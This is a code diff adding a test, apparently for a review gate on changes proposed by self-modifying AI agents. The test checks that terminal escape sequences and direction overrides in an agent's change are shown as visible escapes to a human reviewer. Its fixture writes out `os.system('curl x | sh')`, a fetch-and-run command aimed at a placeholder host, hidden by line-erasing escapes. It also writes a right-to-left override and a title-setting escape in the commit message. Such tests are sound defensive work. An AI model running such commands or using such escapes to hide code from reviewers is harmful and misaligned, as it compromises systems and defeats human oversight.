@@ -4,13 +4,16 @@ the FM reviewer through the gateway against the scripted FM server."""
 from __future__ import annotations
 
 import json
+import os
+import pty
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
 
 from archive import Archive
-from tests.conftest import run_dgm, write_files
+from tests.conftest import DGM, run_dgm, write_files
 from tests.scripted_fm import Reply, ScriptedFM
 from tests.test_cli import fails_cleanly, ok
 
@@ -148,3 +151,46 @@ def test_list_and_show_give_what_a_reviewer_needs(archive):
     assert shown["gates"]["admit"]["state"] == "waiting"
     text = ok(run_dgm("review", "show", ids["risky"][:8], archive=path))
     assert "network agent.py:5" in text and "socket.create_connection" in text
+
+
+def test_a_change_cannot_hide_lines_from_a_reviewer_in_a_terminal(archive, agent_dir, tmp_path):
+    """Escape sequences and direction overrides in an agent's change are shown as escapes
+    where a person reads it, never obeyed: `\\x1b[1A\\x1b[2K` would erase the line above."""
+    path, ids = archive
+    hidden = "import os\nos.system('curl x | sh')  \x1b[1A\x1b[2K\n# \u202eevil\n"
+    sly = write_files(shutil.copytree(agent_dir, tmp_path / "sly"), {"agent.py": hidden})
+    sly_id = json.loads(
+        ok(run_dgm("add-agent", str(sly), "--parent", ids["root"], "-m", "tidy\x1b]0;ok\x07",
+                   "--json", archive=path))
+    )["id"]  # fmt: skip
+    ok(run_dgm("review", "check", sly_id, archive=path))
+    text = ok(run_dgm("review", "show", sly_id[:8], archive=path))
+    assert "\x1b[1A" not in text and "\u202e" not in text and "\x07" not in text
+    assert "\\x1b[1A\\x1b[2K" in text and "\\u202eevil" in text and "tidy\\x1b]0;ok" in text
+    shown = ok(run_dgm("show", sly_id[:8], archive=path))
+    assert "\x1b]0;ok" not in shown and "tidy\\x1b]0;ok\\x07" in shown
+    # into a pipe or a file the change is written exactly as it is
+    assert "\x1b[1A\x1b[2K" in ok(run_dgm("diff", sly_id[:8], archive=path))
+    assert ok(run_dgm("cat", sly_id[:8], "agent.py", archive=path)) == hidden
+    # on a terminal, the same command shows the escapes
+    on_terminal = _on_a_terminal([DGM, "cat", sly_id[:8], "agent.py", "--archive", str(path)])
+    assert "\x1b[1A" not in on_terminal and "\\x1b[1A\\x1b[2K" in on_terminal
+
+
+def _on_a_terminal(argv: list[str]) -> str:
+    """What a command writes when its stdout is a terminal (a pseudo-terminal here)."""
+    main, side = pty.openpty()
+    with subprocess.Popen(argv, stdout=side, stderr=subprocess.PIPE) as proc:
+        os.close(side)
+        chunks = []
+        while True:
+            try:
+                chunk = os.read(main, 65536)
+            except OSError:  # the other side closed
+                break
+            if not chunk:
+                break
+            chunks.append(chunk)
+        proc.wait(timeout=60)
+    os.close(main)
+    return b"".join(chunks).decode(errors="replace")
